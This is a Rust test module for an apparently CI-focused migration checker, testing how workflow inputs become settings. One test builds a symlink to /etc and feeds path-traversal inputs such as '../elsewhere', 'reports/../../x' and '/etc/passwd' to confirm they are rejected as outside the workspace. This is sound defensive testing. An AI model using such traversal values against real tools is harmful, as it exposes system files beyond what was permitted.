        std::fs::write(&file, "models: app.models:Base\n").unwrap();
        assert_eq!(resolve("").models, None);
        assert_eq!(resolve("true").models, Some(Models::SqlAlchemy("app.models:Base".into())));
    }

    #[test]
    fn paths_from_inputs_stay_in_the_workspace() {
        let workspace = tempfile::tempdir().unwrap();
        std::os::unix::fs::symlink("/etc", workspace.path().join("out")).unwrap();
        let ws = workspace.path().display().to_string();
        let resolve = |key: &'static str, value: &'static str| {
            let env = |k: &str| match k {
                "GITHUB_ACTIONS" => Some("true".to_string()),
                "GITHUB_WORKSPACE" => Some(ws.clone()),
                k if k == key => Some(value.to_string()),
                _ => None,
            };
            CheckSettings::resolve(CheckArgs::default(), &env).map(|s| s.report_dir).map_err(|e| e.to_string())
        };
        assert_eq!(resolve("INPUT_REPORT_DIR", "reports/mg"), Ok(Some(PathBuf::from("reports/mg"))));
        for bad in ["../elsewhere", "/tmp/x", "out/passwd-dir", "reports/../../x"] {
            let err = resolve("INPUT_REPORT_DIR", bad).unwrap_err();
            assert!(err.starts_with("input report-dir:") && err.contains("outside the workspace"), "{bad}: {err}");
        }
        assert!(resolve("INPUT_SEED", "/etc/passwd").unwrap_err().contains("input seed"));
        let err = resolve("INPUT_PREFIX_CACHE", "out/cache").unwrap_err();
        assert!(err.starts_with("input prefix-cache:") && err.contains("outside the workspace"), "{err}");
        // A flag is the workflow author's own.
        let args = CheckArgs { report_dir: Some(PathBuf::from("/tmp/r")), ..CheckArgs::default() };
        assert!(CheckSettings::resolve(args, &|k: &str| (k == "GITHUB_ACTIONS").then(|| "true".to_string())).is_ok());
    }

    #[test]
    fn round_trip_and_seed_inputs() {
        let env = env_of(&[
            ("GITHUB_ACTIONS", "true"),
            ("INPUT_ROUND_TRIP", "none"),
            ("INPUT_SEED", "seed.sql"),
            ("INPUT_SEED_AT", "0003"),
        ]);
        let s = CheckSettings::resolve(CheckArgs::default(), &env).unwrap();
        assert_eq!(s.round_trip, RoundTrip::None);
        assert_eq!((s.seed, s.seed_at.as_deref()), (Some(PathBuf::from("seed.sql")), Some("0003")));
        assert_eq!(CheckSettings::resolve(CheckArgs::default(), &env_of(&[])).unwrap().round_trip, RoundTrip::All);
        let bad = env_of(&[("GITHUB_ACTIONS", "true"), ("INPUT_ROUND_TRIP", "some")]);
        let err = CheckSettings::resolve(CheckArgs::default(), &bad).unwrap_err().to_string();
        assert_eq!(err, "input round-trip: unknown value \"some\" (expected all, new or none)");
    }
}
